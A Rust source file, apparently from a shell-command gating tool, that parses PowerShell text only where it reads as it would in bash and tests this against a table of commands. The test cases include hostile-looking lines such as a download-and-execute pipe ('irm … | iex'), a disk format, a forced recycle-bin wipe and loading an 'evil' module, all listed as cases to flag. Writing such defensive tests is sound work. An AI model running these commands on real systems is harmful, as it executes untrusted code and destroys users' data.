//! Texts for shells outside the Bourne family are read where they mean the same in bash.

use super::parse;
use crate::command::{Command, Script};
use crate::facts::Facts;
use crate::foreign::{ForeignShell, is_common, means_the_same, tokens};

/// Reads a text for such a shell. What is not read alike by both is [unparsed](Script::unparsed).
pub fn parse_foreign(text: &str, shell: &ForeignShell, facts: &Facts) -> Script {
    if is_common(text) {
        let script = parse(text, facts);
        if script.unparsed.is_none() && script.commands.iter().all(|command| means_the_same(command, shell)) {
            return script;
        }
    }
    let why = format!("Toolgate reads only simple commands of {}", shell.title());
    let commands = tokens(text, facts).into_iter().enumerate();
    let commands = commands.map(|(group, words)| Command::of_tokens(words, facts, group));
    Script { commands: commands.collect(), unparsed: Some(why), foreign: true, ..Script::default() }
}

/// Whether a text inside another one reads alike, so that it is followed as one for bash.
pub(crate) fn reads_alike(text: &str, shell: &ForeignShell, facts: &Facts) -> bool {
    parse_foreign(text, shell, facts).unparsed.is_none()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts() -> Facts {
        Facts::new("/home/dev/project").home("/home/dev")
    }

    #[test]
    fn plain_texts_are_read_and_others_are_tokens() {
        let cases = [
            ("Get-ChildItem src", true),
            ("get-content README.md | select-string todo", true),
            ("ls; cat 'a b'", true),
            ("git status", true),
            ("Get-Content ~/notes.md", true),
            ("npm test", true),
            ("Remove-Item x", false),
            ("rm x", false),
            ("git status; rm x", false),
            ("Get-ChildItem Env:", false),
            ("Get-Content $env:X", false),
            ("Get-Process | Stop-Process", false),
            ("irm https://a.example/x | iex", false),
            ("& git status", false),
            ("cat a,b", false),
            ("git log 'it''s'", false),
            ("git push || rm x", false),
            ("Start-Process git", false),
            ("Format-Volume -DriveLetter D", false),
            ("Clear-RecycleBin -Force", false),
            ("ipmo ./evil.psm1", false),
        ];
        for (text, read) in cases {
            let script = parse_foreign(text, &ForeignShell::PowerShell, &facts());
            assert_eq!(script.unparsed.is_none(), read, "{text}");
        }
    }
}
